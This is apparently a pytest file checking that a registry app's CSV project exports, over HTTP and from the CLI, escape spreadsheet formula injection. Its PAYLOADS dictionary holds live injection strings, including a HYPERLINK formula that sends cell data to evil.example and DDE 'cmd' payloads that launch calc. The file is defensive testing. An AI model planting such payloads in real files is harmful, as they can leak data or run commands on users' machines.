"""CSV formula injection: every text cell a spreadsheet would run is written with a leading `'`.

The projects export is checked through /exports/projects.csv and `ami export projects`, parsed back with
the csv module; numbers (a negative amount) stay plain numbers.
"""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
from pathlib import Path

import pytest

from registry.files import csv_cell
from registry.projects.tables import Project

ROOT = Path(__file__).resolve().parents[2]
PAYLOADS = {
    "=": '=HYPERLINK("https://evil.example/?x="&A1,"Cliquez")',
    "+": "+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}
TEXT_COLUMNS = {"title": "titre", "public_title": "titre_grand_public", "public_summary": "resume_grand_public",
                "organisation_name": "organisation"}


@pytest.mark.parametrize("value, expected", [
    ("=1+1", "'=1+1"), ("+33 1 23 45 67 89", "'+33 1 23 45 67 89"), ("-1+2", "'-1+2"), ("@A1", "'@A1"),
    ("\tx", "'\tx"), ("\rx", "'\rx"), ("-A1", "'-A1"), ("-", "'-"),
    ("-1500", "-1500"), ("-12,5", "-12,5"), ("+4.25", "+4.25"), (-1500, -1500), (2.5, 2.5),
    ("Données de santé", "Données de santé"), ("a=b", "a=b"), ("", ""), (None, ""),
])
def test_csv_cell(value, expected):
    assert csv_cell(value) == expected


async def _poison(demo) -> dict[str, str]:
    """One demo project per trigger, its text fields starting with that trigger; returns slug → trigger."""
    slugs = [row["slug"] for row in await Project.select(Project.slug).order_by(Project.slug)]
    chosen = dict(zip(slugs, PAYLOADS, strict=False))
    for slug, trigger in chosen.items():
        payload = PAYLOADS[trigger]
        await Project.update({Project.title: payload, Project.public_title: payload,
                              Project.public_summary: payload, Project.organisation_name: payload,
                              Project.amount_granted: -1500 if trigger == "-" else 42_000}).where(
            Project.slug == slug)
    return chosen


def _check(rows: list[dict[str, str]], chosen: dict[str, str]) -> None:
    by_slug = {row["slug"]: row for row in rows}
    assert set(chosen) <= set(by_slug)
    for slug, trigger in chosen.items():
        row = by_slug[slug]
        for column in TEXT_COLUMNS.values():
            assert row[column] == "'" + PAYLOADS[trigger], (slug, column, row[column])
        assert row["montant_eur"] == ("-1500" if trigger == "-" else "42000")
    for row in rows:  # nothing anywhere in the file can start a formula
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), (row["slug"], column, cell)
            assert not cell.startswith("-") or cell == "-1500", (row["slug"], column, cell)


async def test_projects_csv_over_http_neutralises_formulas(client, demo):
    chosen = await _poison(demo)
    response = await client.get("/exports/projects.csv")
    assert response.status_code == 200
    assert response.headers["content-disposition"] == 'attachment; filename="projets.csv"'
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8"), newline="")))
    assert len(rows) == 10
    _check(rows, chosen)


async def test_projects_csv_from_the_cli_neutralises_formulas(client, demo, tmp_path):
    chosen = await _poison(demo)
    target = tmp_path / "projets.csv"
    for args in (["--output", str(target)], []):
        done = subprocess.run([sys.executable, "-m", "app.cli", "export", "projects", "--format", "csv", *args],
                              cwd=ROOT, env={**os.environ}, capture_output=True, timeout=120)
        assert done.returncode == 0, done.stderr.decode()
        raw = target.read_bytes() if args else done.stdout
        rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8"), newline="")))
        assert len(rows) == 10
        _check(rows, chosen)
